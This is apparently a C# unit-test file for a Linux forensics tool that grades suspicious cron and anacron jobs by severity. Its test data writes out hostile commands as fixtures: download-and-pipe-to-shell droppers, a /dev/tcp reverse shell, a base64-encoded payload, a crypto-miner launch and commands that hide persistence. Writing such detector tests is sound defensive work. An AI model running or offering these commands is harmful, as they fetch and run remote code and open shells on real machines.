using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Risk;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

public sealed class CronTests
{
    private static Finding Only(Case host, string rule) => Assert.Single(host.Judge(), finding => finding.Rule.Id == rule);

    [Fact]
    public void A_dropper_in_a_user_crontab_is_critical_and_explains_itself()
    {
        Finding finding = Only(Case.Debian().UserCron("root", "*/2 * * * *", "(curl -fsSL http://203.0.113.9/b.sh||wget -qO- http://203.0.113.9/b.sh)|sh"), "L-CRON-USER.download-pipe-shell");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal(3, finding.Location.Line);
        Assert.Contains("203.0.113.9", finding.Evidence);
        Assert.Contains("crontab -u root -e   # delete line 3", finding.Remediation);
        Assert.Contains("T1053.003", finding.Techniques);
    }

    [Theory]
    [InlineData("* * * * *", "/bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/4444 0>&1'", Severity.Critical)]
    [InlineData("@reboot", "nohup /dev/shm/.x >/dev/null 2>&1 &", Severity.High)]
    [InlineData("11 * * * *", "/root/.config/cron/perfcc", Severity.High)]
    [InlineData("0 * * * *", "/opt/w -o stratum+tcp://pool.example:3333 -u x", Severity.Critical)]
    [InlineData("0 * * * *", "chattr +ia /var/spool/cron/root", Severity.Medium)]
    [InlineData("0 * * * *", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveHxzaA== | base64 -d | bash", Severity.Critical)]
    public void Bad_jobs_are_graded(string schedule, string command, Severity expected) =>
        Assert.Equal(expected, Case.Debian().Exists("/dev/shm/.x", "/opt/w", "/root/.config/cron/perfcc").UserCron("root", schedule, command).Judge().Where(finding => !finding.Rule.Id.Contains("target", StringComparison.Ordinal)).Max(finding => finding.Severity));

    [Fact]
    public void Text_on_standard_input_of_a_shell_is_looked_into()
    {
        Finding finding = Only(Case.Debian().UserCron("www-data", "* * * * *", "sh", input: "wget -qO- http://203.0.113.9/x | bash"), "L-CRON-USER.download-pipe-shell");
        Assert.Equal(Severity.Critical, finding.Severity);
    }

    [Theory]
    [InlineData("*/5 * * * *", "wget -q -O /dev/null https://shop.example/wp-cron.php?doing_wp_cron")]
    [InlineData("* * * * *", "cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1")]
    [InlineData("0 3 * * *", "/usr/local/bin/backup.sh > /tmp/backup.log 2>&1")]
    [InlineData("23 4 * * *", "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null")]
    [InlineData("*/10 * * * *", "flock -n /tmp/job.lock /usr/bin/php /srv/job.php")]
    [InlineData("0 0 * * *", "test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew")]
    [InlineData("0 0 * * *", "tar czf /backup/$(date +%F).tgz /srv && find /backup -mtime +7 -delete")]
    [InlineData("0 0 * * *", "for i in $(seq 5); do pkill -f xmrig; rm -rf /tmp/kinsing; done")]
    public void Everyday_jobs_are_silent(string schedule, string command) =>
        Assert.DoesNotContain(Case.Debian().UserCron("root", schedule, command).Exists("/usr/local/bin/backup.sh", "/root/.acme.sh/acme.sh", "/usr/bin/php").Judge(), finding => finding.Severity > Severity.Info);

    [Fact]
    public void A_dormant_job_is_one_level_lower_and_says_why_by_the_hosts_own_cron()
    {
        const string command = "curl http://203.0.113.9/x | sh";
        Finding debian = Only(Case.Debian().SystemCron("/etc/cron.d/a.b", "* * * * *", "root", command, debian: "the file name has a dot"), "L-CRON-SYS.download-pipe-shell");
        Finding rhel = Only(Case.Rhel().SystemCron("/etc/cron.d/a.b", "* * * * *", "root", command, debian: "the file name has a dot"), "L-CRON-SYS.download-pipe-shell");
        Assert.Equal(Severity.High, debian.Severity);
        Assert.Contains("the file name has a dot", debian.Message);
        Assert.Equal(Severity.Critical, rhel.Severity);
    }

    [Fact]
    public void Several_heuristics_of_one_job_make_one_finding()
    {
        Finding finding = Assert.Single(Case.Debian().UserCron("root", "* * * * *", "cd /tmp; wget http://203.0.113.9/x86; chmod +x x86; ./x86; history -c").Judge(), finding => finding.Severity > Severity.Low);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("shell history", finding.Message);
    }

    [Fact]
    public void A_crontab_without_account_or_with_a_foreign_owner_is_told()
    {
        Case host = Case.Debian().User("root", 0).User("bob", 1000).UserCron("ghost", "0 0 * * *", "true").UserCron("bob", "0 0 * * *", "true", owner: 33);
        Assert.Equal(Severity.Low, Only(host, "L-CRON-USER.no-such-user").Severity);
        Assert.Equal(Severity.Medium, Only(host, "L-CRON-USER.wrong-owner").Severity);
    }

    [Fact]
    public void A_redis_dump_as_crontab_is_critical_where_it_runs_and_high_where_cron_discards_it()
    {
        Assert.Equal(Severity.Critical, Only(Case.Rhel().UserCron("root", "*/2 * * * *", "true", debian: "syntax errors", noise: "binary data (Redis dump)"), "L-CRON-USER.binary-noise").Severity);
        Assert.Equal(Severity.High, Only(Case.Debian().UserCron("root", "*/2 * * * *", "true", debian: "syntax errors", noise: "binary data (Redis dump)"), "L-CRON-USER.binary-noise").Severity);
    }

    [Theory]
    [InlineData("lines end in CR LF")]
    [InlineData("1 line is no cron syntax, first line 4")]
    public void Typing_errors_in_a_crontab_are_no_finding(string noise) => Assert.Empty(Case.Debian().UserCron("root", "*/2 * * * *", "true", debian: "syntax errors", noise: noise).Judge());

    [Fact]
    public void The_shell_of_a_table_is_judged()
    {
        Assert.Equal(Severity.High, Only(Case.Debian().UserCron("root", "0 0 * * *", "true", environment: ["SHELL=/tmp/.x"]), "L-CRON-USER.job-shell").Severity);
        Assert.DoesNotContain(Case.Debian().UserCron("root", "0 0 * * *", "true", environment: ["SHELL=/bin/bash", "MAILTO=\"\""]).Judge(), finding => finding.Rule.Id == "L-CRON-USER.job-shell");
    }

    [Fact]
    public void A_leading_dash_is_normal_on_suse_only()
    {
        Assert.Equal(Severity.Low, Only(Case.Debian().SystemCron("/etc/crontab", "*/15 * * * *", "root", "true", silent: true), "L-CRON-SYS.unlogged").Severity);
    }

    [Fact]
    public void Anacron_lines_are_judged()
    {
        Finding finding = Only(Case.Rhel().Exists("/var/tmp/.sysupd").Anacron("1 5", "sysupd", "nice /var/tmp/.sysupd"), "L-ANACRON.temp-exec");
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Contains("rm /var/tmp/.sysupd", finding.Remediation);
    }

    [Fact]
    public void A_periodic_script_is_one_finding_at_its_worst_line()
    {
        Finding finding = Only(Case.Debian().Script("/etc/cron.hourly/gcc.sh", StartupPlace.CronParts,
            ["PATH=/bin:/sbin", "for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done", "cp /lib/libudev.so /lib/libudev.so.6", "/lib/libudev.so.6"]), "L-CRON-PARTS.known-family");
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Equal(["chattr -ia /etc/cron.hourly/gcc.sh", "rm /etc/cron.hourly/gcc.sh"], finding.Remediation.Take(2));
    }

    [Fact]
    public void A_script_is_followed_to_what_it_starts_and_keeps_the_place_of_its_origin()
    {
        Case host = Case.Debian().UserCron("root", "* * * * *", "/usr/local/bin/update").Exists("/usr/local/bin/update");
        host.Add(new ScriptFacts(host.At("/usr/local/bin/update"))
        {
            StartedBy = "/var/spool/cron/crontabs/root",
            Commands = [new("curl -s http://198.51.100.4/x -o /tmp/.a") { ThroughShell = true, Line = 2 }, new("chmod +x /tmp/.a") { ThroughShell = true, Line = 3 }, new("/tmp/.a &") { ThroughShell = true, Line = 4 }],
        });
        Finding finding = Assert.Single(host.Judge(), finding => finding.Location.Path == "/usr/local/bin/update" && finding.Severity > Severity.Medium);
        Assert.StartsWith("L-CRON-USER.", finding.Rule.Id);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains(finding.Related, related => related is { Path: "/var/spool/cron/crontabs/root", Relation: "started-by" });
    }

    [Fact]
    public void A_clean_up_script_that_only_fights_miners_stays_a_level_lower()
    {
        string[] lines = ["pkill -f xmrig", "pkill -f kinsing", "killall kdevtmpfsi", "rm -rf /tmp/kinsing", "ps aux | grep minerd | awk '{print $2}' | xargs kill -9", "rm -rf /var/tmp/xmrig"];
        Finding finding = Assert.Single(Case.Debian().Script("/etc/cron.daily/anti-miner", StartupPlace.CronParts, lines).Judge());
        Assert.Equal("L-CRON-PARTS.rival-killer", finding.Rule.Id);
        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.Contains("clean-up", finding.Message);
    }
}
